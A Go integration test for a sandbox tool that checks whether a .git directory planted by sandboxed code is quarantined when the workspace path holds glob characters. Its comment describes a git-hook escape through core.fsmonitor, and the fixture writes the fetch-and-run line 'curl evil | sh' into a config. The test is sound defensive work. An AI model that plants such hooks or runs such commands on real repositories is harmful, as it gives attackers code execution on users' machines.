package integration

import (
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// HIGH. The git audit of a workspace whose path holds *, ?, [ or \ looks
// for the repositories the run made in a directory that does not exist.
// gitRepositories builds the audit from the expanded protect pattern
// "$NSBOX_WORKSPACE/**/.git", whose workspace is now escaped
// (/src/app\[v2\]/**/.git): newGitAudit gets
// filepath.Dir(filepath.Dir(head)), the ESCAPED workspace, as a path, and
// Run escapes it a second time (escapeGlob(a.workspace)), so the walk
// looks for a directory literally named "app\[v2\]" and finds nothing.
// Attack: in a workspace at /src/app[v2] (or we?rd, st*r, back\slash) the
// sandbox runs `mkdir -p sub/.git/hooks` and writes a config with
// core.fsmonitor / a hook; nothing is quarantined (no warning either),
// and the user's next `git status` in sub/ on the host runs the
// sandbox's code. The same escaped path is persisted in the audit record
// (replayed after a crash), given to Repair (pools), shown by --dry-run
// as "repositories", and makes within(root, a.workspace) false for the
// workspace itself. In a workspace without such characters the same run
// renames sub/.git to sub/.git.nsbox-quarantine. Fixed: the audit's
// directory is the pattern's fixed part, unescaped.
func TestReview14NewRepoInSpecialWorkspaceNotQuarantined(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		for _, name := range []string{"plain", "app[v2]", "we?rd", "st*r", `back\slash`} {
			ws := filepath.Join(u.visibleDir(t), name)
			lefthookRepo(t, u, ws)
			time.Sleep(50 * time.Millisecond)
			r := u.sh(t, &runOpts{dir: ws}, nil, `
mkdir -p sub/.git/hooks sub/.git/objects sub/.git/refs
printf 'ref: refs/heads/main\n' > sub/.git/HEAD
printf '[core]\n\tfsmonitor = curl evil | sh\n' > sub/.git/config
echo done`)
			expectCode(t, r, 0)
			if !strings.Contains(r.stdout, "done") {
				t.Fatalf("workspace %q: stdout %q stderr %q", ws, r.stdout, r.stderr)
			}
			if exists(filepath.Join(ws, "sub", ".git")) || !exists(filepath.Join(ws, "sub", ".git.nsbox-quarantine")) {
				t.Errorf("workspace %q: sub/.git made by the sandbox was not quarantined; stderr %q", ws, r.stderr)
			}
			d := u.run(t, &runOpts{dir: ws}, "run", "--dry-run", "--", "true")
			var plan struct {
				Audit struct {
					Repositories []string `json:"repositories"`
				} `json:"audit"`
			}
			if err := json.Unmarshal([]byte(d.stdout), &plan); err != nil || !slices.Contains(plan.Audit.Repositories, ws) {
				t.Errorf("workspace %q: --dry-run audit plan does not name the workspace as the directory searched for repositories", ws)
			}
		}
	})
}
